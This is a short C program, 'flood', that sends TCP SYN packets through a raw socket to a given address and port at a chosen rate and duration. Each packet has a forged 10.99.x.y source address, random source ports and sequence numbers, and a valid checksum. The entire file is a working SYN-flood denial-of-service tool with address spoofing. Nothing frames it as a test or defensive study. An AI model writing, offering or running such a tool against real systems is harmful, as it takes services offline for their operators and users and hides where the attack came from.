/*
 * A flood of SYNs with forged source addresses, 10.99.x.y, none of which will ever answer.
 *
 *      flood ADDRESS PORT PER_SECOND SECONDS
 *
 * Needs root: a raw socket. Prints how many were sent.
 */
#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

static uint32_t sum16(const void *p, size_t len)
{
    const unsigned char *b = p;
    uint32_t sum = 0;
    for (size_t i = 0; i + 1 < len; i += 2)
        sum += (uint32_t)(b[i] << 8 | b[i + 1]);
    return sum;
}

int main(int argc, char **argv)
{
    struct {
        struct iphdr ip;
        struct tcphdr tcp;
    } f;
    struct {
        uint32_t src, dst;
        uint16_t proto, len;
    } pseudo;
    struct sockaddr_in to = {.sin_family = AF_INET};
    uint64_t rng = 88172645463325252u;
    long sent = 0;

    if (argc != 5 || inet_pton(AF_INET, argv[1], &to.sin_addr) != 1) {
        fprintf(stderr, "usage: flood ADDRESS PORT PER_SECOND SECONDS\n");
        return 2;
    }
    int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
    long per_ms = (atol(argv[3]) + 999) / 1000, rounds = atol(argv[4]) * 1000;
    if (fd < 0) {
        perror("flood");
        return 1;
    }
    for (long i = 0; i < rounds; i++) {
        for (long k = 0; k < per_ms; k++) {
            rng ^= rng << 13;
            rng ^= rng >> 7;
            rng ^= rng << 17;
            memset(&f, 0, sizeof f);
            f.ip.version = 4;
            f.ip.ihl = 5;
            f.ip.ttl = 64;
            f.ip.protocol = IPPROTO_TCP;
            f.ip.tot_len = htons(sizeof f);
            f.ip.saddr = htonl(0x0a630000u | (uint32_t)(rng & 0xffff));
            f.ip.daddr = to.sin_addr.s_addr;
            f.tcp.source = htons((uint16_t)(1024 + (rng >> 16) % 60000));
            f.tcp.dest = htons((uint16_t)atoi(argv[2]));
            f.tcp.seq = (uint32_t)(rng >> 32);
            f.tcp.doff = 5;
            f.tcp.syn = 1;
            f.tcp.window = htons(1024);
            pseudo.src = f.ip.saddr;
            pseudo.dst = f.ip.daddr;
            pseudo.proto = htons(IPPROTO_TCP);
            pseudo.len = htons(sizeof f.tcp);
            uint32_t sum = sum16(&pseudo, sizeof pseudo) + sum16(&f.tcp, sizeof f.tcp);
            while (sum >> 16)
                sum = (sum & 0xffff) + (sum >> 16);
            f.tcp.check = htons((uint16_t)~sum);
            sent += sendto(fd, &f, sizeof f, 0, (struct sockaddr *)&to, sizeof to) == sizeof f;
        }
        nanosleep(&(struct timespec){0, 1000000}, NULL);
    }
    printf("flood: %ld sent\n", sent);
    return sent == 0;
}
